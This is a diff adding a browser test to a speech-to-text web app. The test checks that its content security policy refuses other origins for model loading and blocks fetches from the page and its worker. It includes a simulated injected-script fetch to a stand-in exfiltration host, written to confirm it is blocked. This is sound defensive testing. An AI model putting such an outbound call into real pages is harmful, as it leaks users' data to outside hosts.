@@ -252,6 +252,33 @@ check('custom base: LM and tokenizer fallbacks, and WebGPU failure falls back to
   await page.context().close();
 });
 
+check('content security policy: other origins are refused, by the page and by its worker', async (t) => {
+  const page = await t.open({ query: '?model=https://models.example.invalid/stt/' });
+  const foreign = [];
+  page.context().on('request', (r) => { if (!r.url().startsWith(t.url)) foreign.push(r.url()); });
+  await page.click('#load-btn');
+  const banner = page.locator('.banner-error', { hasText: 'That model location is not allowed' });
+  await banner.waitFor({ timeout: TIMEOUT_MS });
+  assert(/models\.example\.invalid/.test(await banner.textContent()), 'the error should name the refused origin');
+  // What a script injected into the page or the worker would try: blocked
+  // by the policy before any connection (a violation is reported).
+  const tryFetch = async () => {
+    let blocked = null;
+    self.addEventListener('securitypolicyviolation', (e) => { blocked = e.blockedURI; });
+    const outcome = await fetch('https://exfiltrate.example.invalid/words').then(() => 'sent', () => 'failed');
+    await new Promise((r) => setTimeout(r, 100));
+    return { outcome, blocked };
+  };
+  const inPage = await page.evaluate(tryFetch);
+  assert(inPage.outcome === 'failed' && /exfiltrate\.example\.invalid/.test(inPage.blocked || ''), `page fetch: ${JSON.stringify(inPage)}`);
+  const worker = page.workers()[0];
+  assert(worker, 'the engine worker should be running');
+  const inWorker = await worker.evaluate(tryFetch);
+  assert(inWorker.outcome === 'failed' && /exfiltrate\.example\.invalid/.test(inWorker.blocked || ''), `worker fetch: ${JSON.stringify(inWorker)}`);
+  assert(foreign.length === 0, `requests left the page's origin: ${foreign.join(', ')}`);
+  await page.context().close();
+});
+
 // ------------------------------------------------------------ checks: transcription
 
 check('file upload produces words, end-of-turn marks and a progress bar', async (t) => {
